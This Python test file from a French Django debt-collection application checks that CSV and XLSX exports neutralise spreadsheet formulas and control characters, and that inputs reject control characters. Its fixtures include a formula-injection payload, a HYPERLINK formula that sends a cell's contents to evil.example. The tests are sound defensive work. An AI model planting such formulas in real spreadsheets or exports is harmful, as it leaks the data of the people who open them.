"""Exports are safe to open, and typed text holds no control character.

Every CSV/XLSX export writes its text cells through ``accounts.text.safe_cell``: a cell a
spreadsheet would run as a formula (``= + - @``, tab, CR at the start) gets an apostrophe, a
control character (which XLSX cannot hold) becomes « � » instead of a 500. Text inputs — forms,
API, imports — refuse control characters with a French message.
"""

from __future__ import annotations

import datetime
import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.text import CONTROL_MESSAGE, safe_cell
from dossiers.models import Claim, Debtor
from journee.timeline import timeline_csv
from pilotage import exports as pilotage_exports
from pilotage.presentation import Column, Table

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def test_the_helper_neutralises_formulas_and_control_characters():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(f"{start}1+2") == f"'{start}1+2"
    assert safe_cell("Boulangerie\x07 Moreau") == "Boulangerie\ufffd Moreau"
    assert safe_cell("Dupont") == "Dupont"
    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50")  # a number stays a number
    assert safe_cell(None) is None


def _poison(world) -> tuple[Debtor, Claim]:
    """What the audit stored: a formula as a name and an invoice number, a control character
    (written straight to the database, as the API accepted it then)."""
    debtor = world.mine.dossier.debtor
    Debtor.objects.filter(pk=debtor.pk).update(name=FORMULA + "\x07")
    Claim.objects.filter(pk=world.mine.claim.pk).update(invoice_number="=1+2")
    return debtor, world.mine.claim


@pytest.mark.parametrize("what", ["creances", "dossiers"])
def test_the_exports_write_formulas_as_text_and_never_answer_500(client, world, what):
    _poison(world)
    client.force_login(world.users["manager"])
    response = client.get(reverse("imports:export"), {"what": what, "format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"], "une formule dans l'export"
    assert any(t.startswith("'=HYPERLINK") and "\ufffd" in t for t in texts)
    response = client.get(reverse("imports:export"), {"what": what, "format": "csv"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert ";=" not in text and '"=' not in text
    assert "'=HYPERLINK" in text
    assert "\x07" not in text
    if what == "creances":
        assert ";'=1+2;" in text


def test_a_negative_amount_stays_an_amount_in_the_csv():
    import tablib

    from imports.exports import render

    data = tablib.Dataset(headers=["Débiteur", "Reste dû"])
    data.append(["-Moreau", Decimal("-12.50")])
    text = render(data, "csv").decode("utf-8-sig")
    assert "'-Moreau;-12,50" in text


def test_a_manager_exports_their_portfolio_only(client, world):
    client.force_login(world.users["manager"])
    text = client.get(
        reverse("imports:export"), {"what": "dossiers", "format": "csv"}
    ).content.decode("utf-8-sig")
    assert world.mine.dossier.debtor.name in text
    assert world.theirs.dossier.debtor.name not in text


def test_the_timeline_csv_and_the_dashboard_exports_use_the_helper(world):
    debtor, _claim = _poison(world)
    Debtor.objects.filter(pk=debtor.pk).update(name="Nouveau nom")  # a history row
    csv_text = timeline_csv(world.mine.dossier)
    assert "\x07" not in csv_text
    table = Table(
        key="t",
        title="=titre",
        caption="",
        columns=[Column("Débiteur"), Column("Montant", "money")],
        rows=[["@SUM(A1)\x01", Decimal("-3.00")]],
    )
    today = datetime.date(2026, 11, 23)
    data = SimpleNamespace(filters=SimpleNamespace(start=today, end=today, today=today))
    csv_bytes = pilotage_exports.table_csv(data, table).decode("utf-8-sig")
    assert "'=titre" in csv_bytes and "'@SUM(A1)\ufffd;-3,00" in csv_bytes
    sheet = load_workbook(io.BytesIO(pilotage_exports.table_xlsx(data, table))).active
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert "'@SUM(A1)\ufffd" in values and -3.0 in values
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_text_inputs_refuse_control_characters_with_a_french_message(world):
    with pytest.raises(ValidationError) as refused:
        forms.CharField().clean("Boulangerie\x1b Moreau")
    assert refused.value.messages == [CONTROL_MESSAGE]
    assert forms.CharField(widget=forms.Textarea).clean("ligne 1\r\nligne\t2") == (
        "ligne 1\r\nligne\t2"
    )
    api = APIClient()
    api.force_login(world.users["controller"])
    debtor = world.mine.dossier.debtor
    response = api.patch(
        f"/api/v1/debtors/{debtor.pk}/",
        {"name": "Moreau\x07", "reason": "correction"},
        format="json",
    )
    assert response.status_code == 400, response.content
    assert CONTROL_MESSAGE in str(response.json())
    assert "\x07" not in Debtor.objects.get(pk=debtor.pk).name


def test_the_court_request_file_neutralises_a_formula_typed_as_a_name():
    """The court route's « requête » CSV (escalade.filing) was the one export left raw."""
    import csv

    from escalade.filing import filing_csv

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
    text = filing_csv([("Débiteur", "Nom", evil), ("Créance", "Facture", "+1+2")])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert [row[2] for row in rows] == ["Valeur", "'" + evil, "'+1+2"]
